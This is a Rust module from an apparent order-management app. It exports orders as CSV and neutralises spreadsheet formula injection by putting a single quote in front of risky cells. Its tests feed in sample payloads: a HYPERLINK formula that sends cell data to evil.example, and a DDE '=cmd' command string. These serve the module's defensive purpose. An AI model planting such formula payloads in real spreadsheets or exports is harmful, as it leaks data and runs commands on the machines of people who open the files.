//! Every order as one CSV row, safe to open in a spreadsheet (`chatdrop orders export`, and
//! the console's `GET /console/api/orders.csv`).
//!
//! The file is written by the `csv` crate (RFC 4180: a cell with a comma, a quote, a CR or an
//! LF is quoted and its quotes doubled), so a customer's engraving cannot break a row apart.
//! Quoting is not enough for a spreadsheet, though: Excel, LibreOffice and Google Sheets run a
//! cell that begins with `=`, `+`, `-` or `@` as a formula (`=HYPERLINK(…)` sends data away
//! when clicked), and a leading tab or CR can hide such a start. Following OWASP's CSV
//! injection guidance, every cell that begins with one of those characters gets a leading
//! single quote, which the spreadsheet shows as text; nothing else is changed. Engravings and
//! tracking numbers are the cells that carry text from outside (the customer, the carrier).

use chatdrop_domain::orders::Order;
use std::borrow::Cow;
use std::io::Write;

/// The first characters that make a spreadsheet read a cell as a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

const HEADER: [&str; 10] = [
    "order_id",
    "number",
    "status",
    "created_at",
    "channel",
    "customer",
    "currency",
    "total_minor",
    "items",
    "tracking",
];

/// `cell`, with a leading `'` if a spreadsheet would otherwise run it as a formula.
pub fn neutralised(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// Writes the header and one row per order to `out`.
pub fn write_orders<W: Write>(orders: &[Order], out: W) -> csv::Result<()> {
    let mut writer = csv::Writer::from_writer(out);
    writer.write_record(HEADER)?;
    for o in orders {
        let items = o
            .lines
            .iter()
            .map(|l| format!("{} x {}", l.quantity, l.item))
            .collect::<Vec<_>>()
            .join("; ");
        let row = [
            o.id.clone(),
            o.number(),
            o.status.as_str().to_string(),
            o.created_at.to_string(),
            o.conversation.channel.to_string(),
            o.conversation.hashed(),
            o.currency.code().to_string(),
            o.total.to_string(),
            items,
            o.tracking.clone().unwrap_or_default(),
        ];
        writer.write_record(row.iter().map(|cell| neutralised(cell).into_owned()))?;
    }
    writer.flush()?;
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use chatdrop_domain::channel::{Channel, ConversationId};
    use chatdrop_domain::customization::Selection;
    use chatdrop_domain::i18n::Lang;
    use chatdrop_domain::money::Currency;
    use chatdrop_domain::orders::{OrderLine, OrderStatus};

    const FORMULA: &str = r#"=HYPERLINK("https://evil.example/?d="&A2,"Click for your receipt")"#;

    fn order(id: &str, engraving: &str, tracking: Option<&str>) -> Order {
        Order {
            id: id.into(),
            conversation: ConversationId::new(Channel::Whatsapp, "819012345678"),
            lang: Lang::EN,
            customer: "phone:abc".into(),
            lines: vec![OrderLine {
                product: "drop-bag".into(),
                name: "Drop Bag".into(),
                item: format!("Drop Bag (Black, Engraving “{engraving}”)"),
                selections: vec![Selection::Text {
                    group: "engraving".into(),
                    text: engraving.into(),
                }],
                unit_price: 12_000,
                quantity: 1,
            }],
            currency: Currency::USD,
            total: 12_000,
            status: OrderStatus::Shipped,
            created_at: 1_767_225_600,
            expires_at: 1_767_226_200,
            pay_token: "t".into(),
            stock: Vec::new(),
            limits: Vec::new(),
            checkout_session: None,
            checkout_url: None,
            tracking: tracking.map(str::to_string),
            attention: Vec::new(),
            payment_offer: Default::default(),
            market_zone: None,
            opened_at: None,
        }
    }

    fn export(orders: &[Order]) -> Vec<csv::StringRecord> {
        let mut bytes = Vec::new();
        write_orders(orders, &mut bytes).unwrap();
        csv::Reader::from_reader(bytes.as_slice())
            .records()
            .collect::<Result<_, _>>()
            .unwrap()
    }

    #[test]
    fn formula_starts_get_a_quote_and_nothing_else_changes() {
        assert_eq!(neutralised(FORMULA), format!("'{FORMULA}"));
        for risky in ["+1 555 0100", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"] {
            assert_eq!(neutralised(risky), format!("'{risky}"), "{risky:?}");
        }
        for plain in ["1Z999AA10123456784", "ANA", "", "1 x Drop Bag", "a=b"] {
            assert!(matches!(neutralised(plain), Cow::Borrowed(_)), "{plain:?}");
        }
    }

    #[test]
    fn export_of_hostile_engravings_and_tracking_numbers_opens_as_text() {
        let orders = [
            order("o1", FORMULA, Some("+15550100")),
            order("o2", "ANA, \"the\nbest\"", Some("-1Z999")),
            order("o3", "=1+1", Some("@carrier")),
            order("o4", "LEO", Some("\t=cmd|' /C calc'!A0")),
        ];
        let rows = export(&orders);
        // One row per order, whatever quotes, commas and newlines the engravings carry.
        assert_eq!(rows.len(), 4);
        for row in &rows {
            assert_eq!(row.len(), HEADER.len(), "{row:?}");
            for cell in row {
                assert!(!cell.starts_with(FORMULA_STARTS), "{cell:?} in {row:?}");
            }
        }
        assert_eq!(&rows[0][9], "'+15550100");
        assert_eq!(&rows[1][9], "'-1Z999");
        assert_eq!(&rows[2][9], "'@carrier");
        assert_eq!(&rows[3][9], "'\t=cmd|' /C calc'!A0");
        // The engraving reaches the file whole, inside its quoted cell.
        assert_eq!(
            &rows[0][8],
            format!("1 x Drop Bag (Black, Engraving “{FORMULA}”)")
        );
        assert_eq!(
            &rows[1][8],
            "1 x Drop Bag (Black, Engraving “ANA, \"the\nbest\"”)"
        );
        assert_eq!(&rows[0][0], "o1");
        assert_eq!(&rows[0][2], "shipped");
        assert_eq!(&rows[0][7], "12000");
    }
}
